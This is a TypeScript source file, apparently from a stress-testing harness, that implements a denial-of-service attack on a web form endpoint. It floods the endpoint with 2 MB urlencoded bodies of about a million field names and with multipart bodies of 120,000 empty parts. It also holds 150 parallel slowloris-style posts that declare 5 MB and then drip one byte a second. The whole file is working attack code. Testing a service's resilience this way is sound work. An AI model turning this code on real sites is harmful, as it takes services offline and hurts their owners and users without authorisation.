import { request } from "node:http";
import { setTimeout as pause } from "node:timers/promises";
import { attacker, repeat, send } from "./client.ts";
import type { Attack, AttackContext } from "./target.ts";

const MEGABYTE = 1024 * 1024;

const manyNames = Buffer.from("a&".repeat(MEGABYTE));
const emptyParts = (count: number) =>
  Buffer.from(
    `${'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(count)}--x--\r\n`,
  );
const tooManyParts = emptyParts(120_000);
/** About as many as a form may have, so that the whole body is read. */
const manyParts = emptyParts(2_000);

/** Opens a post of 5 MB, sends 2 MB of it at once, and the rest a byte a second. */
function unfinished({ target, signal, count }: AttackContext, url: string): Promise<void> {
  return new Promise((resolve) => {
    const headers = {
      ...attacker,
      origin: target.site,
      "content-type": "multipart/form-data; boundary=x",
      "content-length": String(5 * MEGABYTE),
    };
    const outgoing = request(url, { method: "POST", agent: false, headers, signal }, (response) => {
      count(response.statusCode ?? 0);
      response.resume();
    });
    const drip = setInterval(() => outgoing.write("a"), 1_000);
    outgoing.on("error", () => undefined);
    outgoing.once("close", () => {
      clearInterval(drip);
      resolve();
    });
    outgoing.write('--x\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\n');
    outgoing.write(Buffer.alloc(2 * MEGABYTE, "a"));
  });
}

/** Form bodies of 2 MB with a million names, of 120,000 and 2,000 empty parts, and 150 that don't end. */
export const bodies: Attack = async (context) => {
  const { target, signal } = context;
  const url = `${target.site}/api/forms/${target.form}`;
  const post = (type: string, body: Buffer) => ({
    method: "POST",
    headers: { origin: target.site, "content-type": type },
    body,
  });
  const slow = async () => {
    while (!signal.aborted) {
      await unfinished(context, url);
      await pause(100);
    }
  };
  await Promise.all([
    repeat(4, context, (_, agent) =>
      send(url, { ...post("application/x-www-form-urlencoded", manyNames), agent }, signal),
    ),
    ...[tooManyParts, manyParts].map((parts) =>
      repeat(4, context, (_, agent) =>
        send(url, { ...post("multipart/form-data; boundary=x", parts), agent }, signal),
      ),
    ),
    ...Array.from({ length: 150 }, slow),
  ]);
};
